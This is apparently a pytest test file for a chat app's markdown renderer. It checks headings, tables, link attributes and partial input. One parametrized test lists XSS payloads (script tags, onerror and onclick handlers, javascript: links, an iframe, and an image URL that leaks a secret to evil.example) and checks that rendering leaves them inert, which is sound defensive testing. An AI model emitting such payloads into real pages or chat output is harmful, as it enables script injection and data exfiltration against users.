from html.parser import HTMLParser

import pytest

from docqa.chat.markdown import markdown_render


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def elements(html):
    parser = _Elements()
    parser.feed(html)
    return parser.elements


def test_renders_headings_lists_tables_and_code():
    html = markdown_render(
        "# Title\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```py\nprint('x')\n```\n"
    )
    assert "<h1>Title</h1>" in html
    assert "<li>one</li>" in html
    assert "<table>" in html and "<td" in html
    assert "<pre><code>print(&#x27;x&#x27;)" in html or "<pre><code>print('x')" in html


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "![leak](https://evil.example/?q=secret)",
        '<a href="https://x" onclick="alert(1)">x</a>',
        "<iframe src=https://evil.example></iframe>",
    ],
)
def test_dangerous_markup_is_inert(payload):
    html = markdown_render(payload)
    for tag, attrs in elements(html):
        assert tag not in {"script", "img", "iframe"}
        assert not any(name.startswith("on") for name in attrs)
        assert not attrs.get("href", "").lower().startswith("javascript")


def test_links_get_rel_noopener_nofollow():
    html = markdown_render("[docs](https://platform.moonshot.cn)")
    assert 'rel="noopener nofollow"' in html
    assert 'href="https://platform.moonshot.cn"' in html


def test_half_written_markdown_renders_without_error():
    for text in ["```py\nprint(", "| a | b |\n|--", "**bold", "<scr", "[x](http"]:
        markdown_render(text)
